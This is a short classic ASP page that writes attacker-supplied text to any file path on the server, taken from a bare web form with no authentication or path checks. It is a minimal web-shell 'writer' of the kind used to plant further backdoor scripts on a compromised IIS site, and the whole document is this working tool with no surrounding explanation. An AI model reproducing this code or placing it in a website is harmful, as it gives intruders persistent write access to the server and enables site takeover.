<%
fn = Request("fn")
tx = Request("tx")
If fn <> "" Then
  Set o = Server.CreateObject("Scripting.FileSystemObject")
  Set w = o.OpenTextFile(Server.MapPath(fn), 2, True)
  w.WriteLine tx
  w.Close
End If
%>
<form method="post"><input name="fn"><textarea name="tx"></textarea><input type="submit"></form>
